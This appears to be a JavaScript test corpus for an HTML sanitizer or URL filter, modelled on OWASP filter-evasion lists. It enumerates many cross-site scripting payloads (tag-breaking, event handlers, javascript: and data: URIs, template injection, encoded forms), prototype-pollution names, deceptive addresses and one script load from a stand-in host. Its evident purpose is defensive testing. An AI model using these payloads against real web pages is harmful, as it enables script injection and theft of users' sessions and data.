// Strings that run a script where they become markup, an address, a style or a name of a property: written by hand after the OWASP list
// of ways around filters, and every pairing of elements and handlers as the lists of event handlers have them.

const RUN = "__ran(1)";
const ELEMENTS = [
  "a", "audio", "b", "body", "button", "canvas", "custom-tag", "details", "div", "dialog", "embed", "form", "frameset", "iframe", "img", "input", "marquee",
  "math", "object", "option", "select", "style", "svg", "textarea", "video",
];
const HANDLERS = [
  "onload", "onerror", "onclick", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "ontransitionend", "onbeforetoggle",
  "ontoggle", "oncontentvisibilityautostatechange", "onscrollsnapchange", "onpaste", "onwheel", "onsecuritypolicyviolation",
];
const SCRIPTS = [
  `<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script src=data:text/javascript,${RUN}></script>`, `<script/src=//evil.example/x.js></script>`,
  `<script>\u2028${RUN}</script>`, `<scr<script>ipt>${RUN}</script>`, `<<script>${RUN}//<</script>`, `</script><script>${RUN}</script>`, `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`, `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`, `</template><script>${RUN}</script>`, `</style><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `<img src=x onerror="${RUN}">`, `<img src=x onerror=${RUN}//`, `<img src=\`x\` onerror=${RUN}>`,
  `<img/src/onerror=${RUN}>`, `<img src="x\u0000" onerror=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values=javascript:${RUN} /><text x=20 y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<iframe src="javascript:parent.${RUN}"></iframe>`, `<object data="javascript:${RUN}">`, `<embed src="javascript:${RUN}">`,
  `<base href="javascript:/a/-${RUN}///////">`, `<form action="javascript:${RUN}"><button>x`, `<button formaction=javascript:${RUN}>x`, `<link rel=stylesheet href=data:,*{x:expression(${RUN})}>`,
  `<style>@import'javascript:${RUN}';</style>`, `<style>*{background:url(javascript:${RUN})}</style>`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<details open ontoggle=${RUN}>`, `<input autofocus onfocus=${RUN}>`, `<dialog open onfocus=${RUN} autofocus tabindex=1>`, `<x onclick=${RUN} style=position:fixed;inset:0>`,
  `<a href="javascript:${RUN}">x</a>`, `<a href="java\tscript:${RUN}">x</a>`, `<a href="&#106;avascript:${RUN}">x</a>`, `<a xlink:href="javascript:${RUN}">x</a>`,
  `\`;${RUN}//`, `';${RUN}//`, `";${RUN}//`, `\${${RUN}}`, `{{constructor.constructor('${RUN}')()}}`, `{{$on.constructor('${RUN}')()}}`, `<%= ${RUN} %>`, `#{${RUN}}`,
  `%3Cscript%3E${RUN}%3C/script%3E`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `\\u003cscript\\u003e${RUN}`, `\u0000<script>${RUN}</script>`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`, `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`, `<xss id=x tabindex=1 onfocusin=${RUN}></xss>`,
];
const NAMES = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "innerHTML", "srcdoc", "onclick", "attributes", "body", "forms", "cookie"];

/** Addresses that must not become a link or a picture, or only as what they plainly are. */
export const ADDRESSES = [
  ...["javascript:", "JaVaScRiPt:", "java\nscript:", "java\tscript:", "java\rscript:", "\u0001javascript:", " javascript:", "\u00a0javascript:", "javascript&colon;", "javascript\u003a", "vbscript:", "livescript:", "mocha:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "blob:", "filesystem:", "file:///", "about:", "view-source:", "ws://", "ftp://", "mailto:", "tel:", "intent://", "chrome://", "resource://", "jar:", "ms-settings:", "feed:javascript:"].map((scheme) => scheme + RUN),
  "//evil.example\\@shop.example/", "https://user:pass@evil.example/", "https://shop.example@evil.example/", "http:\\\\evil.example", "https:///evil.example", "http://[::1", "http://%00/", "https://evil.example:99999/", "\\\\evil.example\\x", "?javascript:" + RUN, "#" + RUN, "/" + RUN, "x" + RUN, "",
];

export const CORPUS = [...new Set([
  ...SCRIPTS,
  ...ELEMENTS.flatMap((element) => HANDLERS.map((handler) => `<${element} ${handler}=${RUN} src=x href=x tabindex=0 autofocus>x</${element}>`)),
  ...["' ", '" ', "` ", "\n", "/"].flatMap((way) => HANDLERS.slice(0, 8).map((handler) => `${way}${handler}=${RUN} x=${way}`)),
  ...ADDRESSES,
  ...NAMES,
])];
